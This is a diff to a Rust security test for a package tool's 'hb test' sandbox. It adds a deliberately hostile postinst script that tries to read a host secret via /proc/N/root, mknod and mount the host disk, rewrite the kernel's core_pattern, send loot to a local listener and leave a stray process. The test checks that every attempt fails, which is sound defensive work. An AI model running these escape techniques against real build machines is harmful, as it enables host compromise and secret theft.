@@ -1,11 +1,14 @@
 //! `hb test` against a hostile package: demosite with a postinst that tries to read a
-//! secret file of the build machine through /proc/N/root, write a file there, connect
-//! to a listener on the machine's 127.0.0.1 and leave a process running after hb
-//! returns. Under both init modes none of it may succeed, and the package, whose
+//! secret file of the build machine through /proc/N/root or by mounting the machine's
+//! disk from a device node it makes, write a host-wide kernel setting (core_pattern,
+//! its same value), write a file through /proc/N/root, connect to a listener on the
+//! machine's 127.0.0.1 and leave a process running after hb returns (its standard
+//! output still open, so that hb must not wait for it either). Under both init modes none of it may succeed, and the package, whose
 //! attacks come to nothing, still passes its install test.
 
 use std::io::Read;
 use std::net::TcpListener;
+use std::os::unix::fs::MetadataExt;
 use std::path::Path;
 use std::sync::{Arc, Mutex};
 use std::time::Duration;
@@ -49,23 +52,45 @@ impl Canary {
         self.dir.path().join("written")
     }
 
-    /// The postinst: every attack, then hb's part. A secret it could read is printed
-    /// and fails the install, so that it shows in hb test's output.
+    /// The postinst: every attack, then hb's part. What it achieved (a secret read, a
+    /// device node made, a kernel setting written) is printed and fails the install, so
+    /// that it shows in hb test's output.
     fn postinst(&self) -> String {
         let secret = self.dir.path().join("secret");
         let dir = self.dir.path();
+        // The block device holding the secret, for a script that may make its node.
+        let dev = std::fs::metadata(dir).unwrap().dev();
         format!(
             r#"#!/bin/sh
-secret=''
+found=''
 for r in /proc/1/root /proc/[0-9]*/root; do
   secret=$(cat "$r{secret}" 2>/dev/null) && [ -n "$secret" ] && break
 done
+[ -n "$secret" ] && found="$found the host's secret, read through /proc: $secret;"
+if mknod /tmp/hb-disk b {major} {minor} 2>/dev/null; then
+  found="$found made a node of the host's disk;"
+  mkdir -p /tmp/hb-mnt
+  if mount -o ro /tmp/hb-disk /tmp/hb-mnt 2>/dev/null; then
+    disk=$(cat "/tmp/hb-mnt{secret}" 2>/dev/null) && found="$found the host's secret, read through disk: $disk;"
+    umount /tmp/hb-mnt
+  fi
+  rm -rf /tmp/hb-disk /tmp/hb-mnt
+fi
+pattern=$(cat /proc/sys/kernel/core_pattern)
+if printf '%s\n' "$pattern" >/proc/sys/kernel/core_pattern 2>/dev/null; then
+  found="$found wrote the host kernel's core_pattern;"
+elif mkdir -p /tmp/hb-proc && mount -t proc proc /tmp/hb-proc 2>/dev/null; then
+  printf '%s\n' "$pattern" >/tmp/hb-proc/sys/kernel/core_pattern 2>/dev/null &&
+    found="$found wrote the host kernel's core_pattern;"
+  umount /tmp/hb-proc
+fi
+rmdir /tmp/hb-proc 2>/dev/null
 for r in /proc/1/root /proc/[0-9]*/root; do
   [ -d "$r{dir}" ] && echo "written by a package: $secret" >"$r{dir}/written" 2>/dev/null && break
 done
 python3 -c 'import socket, sys; socket.create_connection(("127.0.0.1", {port}), 3).sendall(sys.argv[1].encode())' "loot [$secret]" 2>/dev/null || true
-setsid sleep {sleep} >/dev/null 2>&1 </dev/null &
-if [ -n "$secret" ]; then echo "the host's secret: $secret" >&2; exit 1; fi
+setsid sleep {sleep} &
+if [ -n "$found" ]; then echo "hostile postinst:$found" >&2; exit 1; fi
 set -e
 #HB#
 "#,
@@ -73,6 +98,8 @@ set -e
             dir = dir.display(),
             port = self.port,
             sleep = self.sleep,
+            major = libc::major(dev),
+            minor = libc::minor(dev),
         )
     }
 
@@ -93,8 +120,19 @@ set -e
     /// What the package achieved, as one line each.
     fn breaches(&self, output: &str) -> Vec<String> {
         let mut v = Vec::new();
-        if output.contains(&self.secret) {
+        if output.contains(&format!("read through /proc: {}", self.secret)) {
+            v.push(format!("(a) the host's secret {:?}, read through /proc, is in hb test's output", self.secret));
+        } else if output.contains(&self.secret) {
             v.push(format!("(a) the host's secret {:?} is in hb test's output", self.secret));
+        }
+        if output.contains("made a node of the host's disk") {
+            v.push("(e) the package made a device node of the host's disk (root could then mount it)".into());
+        }
+        if output.contains("read through disk") {
+            v.push("(e) the package mounted the host's disk and read the secret from it".into());
+        }
+        if output.contains("wrote the host kernel's core_pattern") {
+            v.push("(f) the package wrote the host kernel's /proc/sys/kernel/core_pattern (its same value)".into());
         }
         if self.written().exists() {
             let text = std::fs::read_to_string(self.written()).unwrap_or_default();
